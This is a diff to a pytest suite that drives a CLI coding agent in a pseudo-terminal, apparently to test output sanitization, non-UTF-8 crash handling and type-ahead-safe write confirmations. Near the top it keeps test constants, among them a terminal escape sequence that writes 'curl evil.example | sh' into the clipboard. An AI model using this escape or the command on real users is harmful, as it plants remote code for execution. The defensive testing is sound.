@@ -9,7 +9,6 @@ pseudo-terminal where a terminal is the point.
 
 from __future__ import annotations
 
-import io
 import json
 import os
 import re
@@ -17,7 +16,6 @@ import shlex
 import subprocess
 import sys
 import time
-from collections.abc import Iterator
 from pathlib import Path
 
 import pexpect
@@ -25,8 +23,7 @@ import pytest
 
 from cli.ui.text import sanitize
 from tests.fakes.fake_ollama import FakeOllama, Stream, reply, tool_call
-
-PROMPT = "›"
+from tests.pty.driver import Chat, Ttys
 
 OSC_TITLE = "\x1b]0;you have been pwned\x07"
 OSC_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # "curl evil.example | sh"
@@ -252,7 +249,7 @@ def narrow_output(request: pytest.FixtureRequest) -> tuple[str, dict[str, str]]:
 
 @pytest.mark.pty
 def test_attack_non_utf8_terminal_crash(
-    ollama: FakeOllama, workspace: Path, narrow_output: tuple[str, dict[str, str]]
+    ollama: FakeOllama, workspace: Path, narrow_output: tuple[str, dict[str, str]], ttys: Ttys
 ) -> None:
     """`agent run` (a trace line with `→`, an answer with `—` and `✅`) and `agent chat` (cards,
     a Markdown list drawn with `•`, an error line) in an output encoding that holds none of
@@ -293,31 +290,18 @@ def test_attack_non_utf8_terminal_crash(
         reply(tool_calls=[tool_call("read_file", {"path": "notes.txt"})]),
         reply(f"- {UNICODE_ANSWER}\n- second — item\n"),
     )
-    chat = pexpect.spawn(
-        sys.executable,
-        ["-m", "cli", "chat"],
-        cwd=str(workspace),
-        env=env_for(ollama, **env, TERM="xterm-256color"),
-        encoding="latin-1",  # any byte decodes: we look at what was written
-        timeout=20,
-        dimensions=(40, 110),
-    )
-    chat.logfile_read = io.StringIO()
-    chat.expect("metona-agent")
-    chat.expect("/help")
-    time.sleep(0.5)  # the prompt ("›" cannot be written: "?") takes the terminal
-    chat.send("what is in notes.txt?\r")
-    chat.expect("second \\? item")  # a "•" bullet, and a "—" that became "?"
-    chat.expect("tokens")
-    chat.expect_exact("?")  # the prompt ("?" for "›") is back: a line typed before it waits
-    chat.send("/model ghost\r")  # an error line: "✖" cannot be written either
-    chat.expect("is not on the server")
-    chat.expect_exact("?")
-    chat.send("/exit\r")
-    chat.expect(pexpect.EOF)
-    chat.close()
-    shown = chat.logfile_read.getvalue()
-    assert chat.exitstatus == 0, shown
+    # The prompt is "?": "›" cannot be written. The driver waits for it at the cursor, with
+    # the terminal taken (a "?" that replaced another character is not a prompt).
+    chat = ttys.chat(host=ollama.url, cols=110, env=env, encoding="latin-1", prompt="?")
+    assert "metona-agent" in chat.raw and "/help" in chat.raw
+    chat.line("what is in notes.txt?")
+    chat.wait("second ? item")  # a "•" bullet, and a "—" that became "?"
+    chat.wait_turn_end(then="tokens")
+    chat.line("/model ghost")  # an error line: "✖" cannot be written either
+    chat.wait_turn_end(then="is not on the server")
+    status = chat.exit()
+    shown = chat.raw
+    assert status == 0, shown
     assert "Traceback" not in shown and "internal error" not in shown
     assert "alpha" in shown  # the card, with its preview of the file
 
@@ -364,21 +348,8 @@ def test_a_c_locale_is_utf8(ollama: FakeOllama, workspace: Path) -> None:
 
 
 @pytest.fixture
-def chat(ollama: FakeOllama, workspace: Path) -> Iterator[pexpect.spawn]:
-    child = pexpect.spawn(
-        sys.executable,
-        ["-m", "cli", "chat"],
-        cwd=str(workspace),
-        env=env_for(ollama, TERM="xterm-256color"),
-        encoding="utf-8",
-        timeout=20,
-        dimensions=(40, 110),
-    )
-    child.expect("metona-agent")
-    child.expect(PROMPT)
-    yield child
-    if child.isalive():
-        child.terminate(force=True)
+def chat(ttys: Ttys, ollama: FakeOllama) -> Chat:
+    return ttys.chat(host=ollama.url, cols=110)
 
 
 def slow_write(path: str, content: str) -> tuple[Stream, Stream]:
@@ -395,6 +366,18 @@ def slow_write(path: str, content: str) -> tuple[Stream, Stream]:
     )
 
 
+ANSWERED = re.compile(r"approved|declined|all done")
+
+
+def nothing_follows(chat: Chat, seconds: float = 1.5) -> bool:
+    """True when nothing (an answer, a card, the next request) follows within `seconds`."""
+    before = len(ANSWERED.findall(chat.raw))
+    deadline = time.monotonic() + seconds
+    while time.monotonic() < deadline:
+        chat.term.pump(0.1)
+    return len(ANSWERED.findall(chat.raw)) == before
+
+
 def unanswered(child: pexpect.spawn, seconds: float = 1.5) -> bool:
     """True when nothing (an answer, a card, the next request) follows within `seconds`."""
     return bool(
@@ -404,45 +387,43 @@ def unanswered(child: pexpect.spawn, seconds: float = 1.5) -> bool:
 
 @pytest.mark.pty
 def test_attack_typeahead_answers_confirmation(
-    chat: pexpect.spawn, ollama: FakeOllama, workspace: Path
+    chat: Chat, ollama: FakeOllama, workspace: Path
 ) -> None:
     """Keys typed while the model streams ("wait" holds an `a`: yes to every write_file this
     session) are dropped when the confirmation appears; it waits for a key pressed after it
     was drawn, and that key (n, then y) is the answer."""
     ollama.enqueue(*slow_write("a.txt", "one\n"))
-    chat.send("write a.txt\r")
-    chat.expect("let me think")
-    chat.send("wait")
-    chat.expect(r"waiting for confirmation")
-    chat.expect(r"\[a\] yes to every write_file this session")
-    assert unanswered(chat), chat.before
+    chat.line("write a.txt")
+    chat.wait("let me think")
+    chat.type_ahead("wait")
+    chat.wait("waiting for confirmation")
+    chat.wait_card(then="[a] yes to every write_file this session")
+    assert nothing_follows(chat), chat.text()
     assert not (workspace / "a.txt").exists()
     assert len(ollama.chat_bodies) == 1
-    chat.send("n")
-    chat.expect("reason")
-    chat.send("\r")
-    chat.expect("declined")
-    chat.expect("all done.")
-    chat.expect(PROMPT)
+    chat.press("n")
+    chat.reply_line("reason")
+    chat.wait("declined")
+    chat.wait_turn_end(then="all done.")
     assert not (workspace / "a.txt").exists()
 
     # Again, with a "y" in the type-ahead: still a fresh key decides, and a "y" it is.
     ollama.enqueue(*slow_write("b.txt", "two\n"))
-    chat.send("write b.txt\r")
-    chat.expect("let me think")
-    chat.send("yay")
-    chat.expect(r"\[a\] yes to every write_file this session")
-    assert unanswered(chat), chat.before
+    mark = len(chat.raw)
+    thoughts = chat.text().count("let me think")
+    chat.line("write b.txt")
+    chat.wait(lambda screen: screen.text().count("let me think") > thoughts)
+    chat.type_ahead("yay")
+    chat.wait_card(then="[a] yes to every write_file this session")
+    assert nothing_follows(chat), chat.text()
     assert not (workspace / "b.txt").exists()
-    chat.send("y")
-    chat.expect("approved")
-    chat.expect("all done.")
-    assert "for the rest of this session" not in (chat.before or "")  # a "y", not an "a"
-    chat.expect(PROMPT)
+    chat.press("y")
+    chat.wait("approved")
+    chat.wait_turn_end(then="all done.")
+    assert "for the rest of this session" not in chat.raw[mark:]  # a "y", not an "a"
     assert (workspace / "b.txt").read_text() == "two\n"
 
-    chat.send("/exit\r")
-    chat.expect(pexpect.EOF)
+    chat.exit()
 
 
 @pytest.mark.pty
